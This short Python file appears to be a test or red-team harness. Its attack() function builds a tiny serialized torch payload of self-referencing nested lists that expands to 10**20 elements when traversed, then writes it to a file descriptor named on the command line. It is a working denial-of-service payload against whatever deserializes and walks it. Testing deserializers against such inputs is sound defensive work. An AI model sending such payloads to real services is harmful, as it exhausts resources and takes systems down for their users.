"""Answer with a hand-made frame holding a list that holds the same list ten times at each of
twenty levels: a few kilobytes on the wire, 10**20 places for any walk over it."""


def attack(*args):
    import io
    import os
    import struct
    import sys
    import time

    import torch

    bomb = [0.0]
    for _ in range(20):
        bomb = [bomb] * 10
    buf = io.BytesIO()
    torch.save({"ok": True, "value": bomb}, buf)
    data = buf.getvalue()
    os.write(int(sys.argv[2]), struct.pack(">Q", len(data)) + data)
    time.sleep(60)
